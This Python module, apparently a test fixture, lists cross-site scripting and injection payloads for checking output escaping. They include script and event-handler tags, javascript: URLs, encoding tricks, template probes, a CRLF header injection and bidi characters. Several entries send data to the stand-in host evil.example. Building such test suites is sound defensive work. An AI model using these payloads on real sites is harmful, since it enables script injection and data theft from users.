"""Texts that would be something else than text where somebody forgot to escape them."""

from __future__ import annotations

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</bdi></td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style>@import '//evil.example'</style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=key>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!doctype html><html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
)
_ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"/><img src=x onerror=alert(1)>',
    "` onmouseover=alert(1)",
    '"\nonmouseover=alert(1)\n"',
    '" style="background:url(//evil.example)',
    '" class="free" id="x',
    "x=y",
    '""""',
    '\\" onmouseover=alert(1)',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "/stories/1?x=<script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?leak)",
    "https://evil.example/a.png",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&quot; onmouseover=alert(1)",
    "&notanentity; & && &",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__}",
    "%s %(x)s {} {0}",
    "$\\href{javascript:alert(1)}{x}$",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
)
_CHARACTERS = (
    "\u202egnp.exe",
    "\u2066\u202e\u2069",
    "\u200f\u061c",
    "\x00<script>",
    "<\x00script>",
    "\x1b[31mred\x1b[0m",
    "\x08\x7f\x85",
    "\r\nSet-Cookie: x=y",
    "\ufeff\ufffe",
    "\u2028\u2029",
    "a\u0300" * 50,
    "مرحبا <b>",
    "𝕏" * 10,
    "\ud800",
    "\udfff<script>",
    " ",
    "x" * 10_000,
)
BASE = (*_SCRIPTS, *_ATTRIBUTES, *_ADDRESSES, *_ENTITIES, *_CHARACTERS)

PAYLOADS = tuple(
    dict.fromkeys(
        wrapped
        for payload in BASE
        for wrapped in (payload, f'Ann said "{payload}" & left', f"<!--{payload}", f"'{payload}\"\n\t{payload}")
    )
)
"""Each by itself, in a sentence, behind a comment that is never closed, and between quotes."""
